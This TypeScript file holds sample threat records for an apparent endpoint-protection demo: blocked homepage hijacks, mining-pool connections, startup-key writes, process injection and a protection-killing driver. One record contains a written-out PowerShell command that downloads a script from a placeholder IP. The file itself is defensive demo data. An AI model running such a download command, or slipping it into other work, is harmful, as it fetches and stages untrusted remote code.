import type { ACTIONS, SEVERITIES, THREAT_TYPES } from './dicts.ts';

/** A threat with the program that causes it. */
interface Kind {
  threat: (typeof THREAT_TYPES)[number];
  severity: (typeof SEVERITIES)[number];
  action: (typeof ACTIONS)[number];
  rule: string;
  process: string;
  folder: string;
  parent: string;
  target: string;
  /** Arguments of the program. */
  args: string;
}

const DRIVERS = 'C:\\Windows\\System32\\drivers\\';
const TEMP = 'C:\\Users\\Public\\Temp\\';
const START = 'HKCU\\Software\\Microsoft\\Internet Explorer\\Main\\Start Page';
const RUN = 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';
const HOSTS = 'C:\\Windows\\System32\\drivers\\etc\\hosts';

const kind = (
  threat: Kind['threat'],
  severity: Kind['severity'],
  action: Kind['action'],
  rule: string,
  process: string,
  folder: string,
  parent: string,
  target: string,
  args = '/s',
): Kind => ({ threat, severity, action, rule, process, folder, parent, target, args });

/** Threats of the demo. Frequent kinds are listed several times. */
export const DEMO_THREATS: readonly Kind[] = [
  kind('homepage', 'low', 'blocked', '锁定浏览器主页', 'homeset.exe', TEMP, 'explorer.exe', START),
  kind('homepage', 'low', 'blocked', '锁定浏览器主页', 'navguide.exe', TEMP, 'explorer.exe', START),
  kind(
    'network',
    'low',
    'alerted',
    '可疑外联提醒',
    'upsvc.exe',
    TEMP,
    'svchost.exe',
    '198.51.100.23:8443',
  ),
  kind(
    'network',
    'low',
    'blocked',
    '矿池地址拦截',
    'minerd.exe',
    TEMP,
    'cmd.exe',
    '203.0.113.77:3333',
  ),
  kind(
    'registry',
    'low',
    'blocked',
    '禁止写入开机启动项',
    'autorun.exe',
    TEMP,
    'explorer.exe',
    RUN,
  ),
  kind(
    'registry',
    'low',
    'allowed',
    '开机启动项观察',
    'gamebox.exe',
    'C:\\Games\\',
    'explorer.exe',
    RUN,
  ),
  kind(
    'file',
    'low',
    'quarantined',
    '隔离可疑文件',
    'setup_x.exe',
    TEMP,
    'browser.exe',
    `${TEMP}setup_x.exe`,
  ),
  kind(
    'file',
    'low',
    'alerted',
    '批量改写文件提醒',
    'packer.exe',
    TEMP,
    'explorer.exe',
    'D:\\Menu',
  ),
  kind('process', 'medium', 'killed', '结束广告弹窗进程', 'popad.exe', TEMP, 'explorer.exe', ''),
  kind('process', 'medium', 'killed', '结束还原穿透工具', 'thruwall.exe', 'E:\\', 'cmd.exe', ''),
  kind(
    'script',
    'medium',
    'blocked',
    '禁止脚本下载执行',
    'powershell.exe',
    'C:\\Windows\\',
    'wscript.exe',
    '192.0.2.61',
    '-c "(New-Object Net.WebClient).DownloadString(\'http://192.0.2.61/a\')"',
  ),
  kind('hosts', 'medium', 'blocked', '保护 hosts 文件', 'netfix.exe', TEMP, 'cmd.exe', HOSTS),
  kind(
    'inject',
    'high',
    'blocked',
    '禁止向计费客户端注入',
    'injector.exe',
    TEMP,
    'cmd.exe',
    'billing.exe',
    '/p billing.exe',
  ),
  kind(
    'inject',
    'high',
    'killed',
    '禁止向游戏进程注入',
    'trainer.exe',
    'E:\\',
    'explorer.exe',
    'game.exe',
  ),
  kind(
    'driver',
    'high',
    'blocked',
    '禁止加载无签名驱动',
    'loader.exe',
    TEMP,
    'cmd.exe',
    `${DRIVERS}kmon.sys`,
  ),
  kind(
    'driver',
    'critical',
    'quarantined',
    '阻断关闭防护的驱动',
    'killshield.exe',
    TEMP,
    'cmd.exe',
    `${DRIVERS}ksh.sys`,
  ),
];

/** Index of the threat that a campaign spreads: a driver that stops the protection. */
export const CAMPAIGN_THREAT = DEMO_THREATS.length - 1;
